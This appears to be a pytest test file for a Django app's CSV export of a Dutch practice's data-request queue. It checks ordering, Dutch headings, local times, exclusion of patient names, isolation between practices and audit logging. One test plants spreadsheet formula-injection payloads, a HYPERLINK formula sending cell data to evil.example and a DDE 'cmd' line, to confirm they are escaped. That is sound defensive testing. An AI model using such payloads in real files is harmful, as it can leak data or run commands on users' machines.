"""The queue as a CSV file: the page's rows (every page of them) in its order, headings in the
reader's language, Dutch local time, no formulas, no patient names, never another practice's
requests, and an audit record of the export with its filters."""

import csv
import datetime
import io

import pytest
from django.utils import timezone

from requests_app.models import AuditRecord, Request, RequestState
from requests_app.roles import Role
from tests.factories import make_user
from tests.factories import queue_refs as refs
from tests.factories import queued_requests as make

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate()
EXPORT = "/staff/export.csv"


def rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="requests-')
    return list(csv.reader(io.StringIO(response.content.decode())))


def page_refs(client, **params) -> list[str]:
    """Every reference the queue page lists for these filters, page after page."""
    found, number = [], 1
    while True:
        response = client.get("/staff/", {**params, "page": number})
        found += refs(response)
        if not response.context["page"].has_next():
            return found
        number += 1


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"state": "all", "order": "-received"},
        {"kind": "erasure", "due": "overdue"},
        {"q": "de wit", "order": "-due"},
        {"assigned": "nobody", "state": "forwarded"},
    ],
)
def test_the_csv_holds_exactly_the_pages_rows_in_their_order(client, practice, handler, params):
    make(practice, 30, response_due=TODAY + datetime.timedelta(days=3))
    make(practice, 25, kind="erasure", response_due=TODAY - datetime.timedelta(days=2))
    make(practice, 3, patient_name="Anna de Wit", assigned_to=handler)
    make(practice, 4, state=RequestState.CLOSED)
    make(practice, 2, state=RequestState.IN_REVIEW)
    client.force_login(handler)
    expected = page_refs(client, **params)
    listed = [row[0] for row in rows(client.get(EXPORT, params))[1:]]
    assert listed == expected
    assert len(listed) > 0


def test_dutch_headings_local_times_and_no_patient_names(client, practice, handler):
    handler.first_name, handler.last_name = "Henk", "de Handelaar"
    handler.save()
    item = make(practice, patient_name="Jan Jansen", kind="erasure", assigned_to=handler)[0]
    # 23:30 UTC on 31 January is 00:30 on 1 February in the Netherlands.
    received = datetime.datetime(2026, 1, 31, 23, 30, tzinfo=datetime.UTC)
    Request.objects.filter(pk=item.pk).update(
        received_at=received, response_due=datetime.date(2026, 3, 2)
    )
    client.force_login(handler)
    table = rows(client.get(EXPORT))
    assert table == [
        ["Kenmerk", "Soort", "Status", "Ontvangen", "Antwoord uiterlijk", "Behandelaar"],
        [
            item.reference,
            "Verwijdering",
            "Doorgestuurd naar de praktijk",
            "2026-02-01 00:30",
            "2026-03-02",
            "Henk de Handelaar",
        ],
    ]
    assert "Jan Jansen" not in client.get(EXPORT).content.decode()
    client.cookies["django_language"] = "en"
    english = rows(client.get(EXPORT))
    assert english[0] == ["Reference", "Kind", "State", "Received", "Answer due", "Handler"]
    assert english[1][1:3] == ["Erasure", "Forwarded to the practice"]


def test_cells_that_would_run_as_formulas_stay_text(client, practice, handler):
    sneaky = make_user("sneaky@practice.example", Role.HANDLER, practice)
    sneaky.first_name, sneaky.last_name = '=HYPERLINK("http://evil.example/?x="&A2', '"klik")'
    sneaky.save()
    named = '=HYPERLINK("http://evil.example","Jan")'
    item = make(practice, patient_name=named, assigned_to=sneaky)[0]
    other = make(practice, patient_name=" -2+3+cmd|' /C calc'!A0")[0]
    client.force_login(handler)
    response = client.get(EXPORT)
    table = rows(response)
    by_ref = {row[0]: row for row in table[1:]}
    assert by_ref[item.reference][5].startswith("'=HYPERLINK(")
    # The patient's name is not in the file at all, formula or not.
    body = response.content.decode()
    assert 'evil.example","Jan' not in body and "calc" not in body
    assert other.reference in by_ref
    for row in table:
        for cell in row:
            assert not cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")), cell


def test_another_practices_requests_are_never_in_the_csv(
    client, practice, other_practice, handler, other_handler
):
    mine = make(practice, patient_name="Anna de Wit")[0]
    theirs = make(other_practice, patient_name="Anna de Wit")[0]
    client.force_login(handler)
    for params in ({}, {"state": "all"}, {"q": "de wit"}, {"q": theirs.reference}):
        body = client.get(EXPORT, params).content.decode()
        assert theirs.reference not in body, params
    assert mine.reference in client.get(EXPORT).content.decode()
    client.force_login(other_handler)
    body = client.get(EXPORT).content.decode()
    assert theirs.reference in body and mine.reference not in body


def test_the_export_is_recorded_per_practice_with_its_filters(
    client, practice, other_practice, handler
):
    from requests_app.models import Membership

    Membership.objects.create(user=handler, role=Role.HANDLER, practice=other_practice)
    here = make(practice, kind="erasure")[0]
    there = make(other_practice, kind="erasure")[0]
    make(practice, kind="access")
    client.force_login(handler)
    client.get(EXPORT, {"kind": "erasure", "q": ""})
    records = AuditRecord.objects.filter(event_type="queue.export").order_by("seq")
    assert records.count() == 2  # each practice's FG finds it in their own log
    assert {tuple(r.details["shown"]) for r in records} == {(here.reference,), (there.reference,)}
    for record in records:
        assert record.action == "E" and record.user == handler
        assert record.object_type == "list"
        assert record.details["filters"] == {"kind": "erasure"}


def test_an_empty_export_is_recorded_too(client, practice, handler):
    client.force_login(handler)
    table = rows(client.get(EXPORT, {"q": "niemand"}))
    assert len(table) == 1
    record = AuditRecord.objects.get(event_type="queue.export")
    assert record.details["shown"] == [] and record.details["filters"] == {"q": "niemand"}


def test_the_fgs_audit_log_names_the_export_in_words(client, practice, handler):
    fg = make_user("fg@practice.example", Role.DPO, practice)
    make(practice)
    client.force_login(handler)
    client.get(EXPORT)
    client.force_login(fg)
    page = client.get("/staff/audit/").content.decode()
    assert "De lijst van verzoeken gedownload (CSV)" in page


def test_only_practice_staff_export_and_the_page_links_to_it(client, practice, handler, support):
    make(practice)
    client.force_login(support)
    response = client.get(EXPORT)
    assert (
        response.status_code == 302
        and not AuditRecord.objects.filter(event_type="queue.export").exists()
    )
    client.logout()
    assert client.get(EXPORT).status_code == 302  # to the sign-in page
    client.force_login(handler)
    page = client.get("/staff/", {"kind": "access", "state": "all"}).content.decode()
    assert 'href="/staff/export.csv?state=all&amp;kind=access"' in page
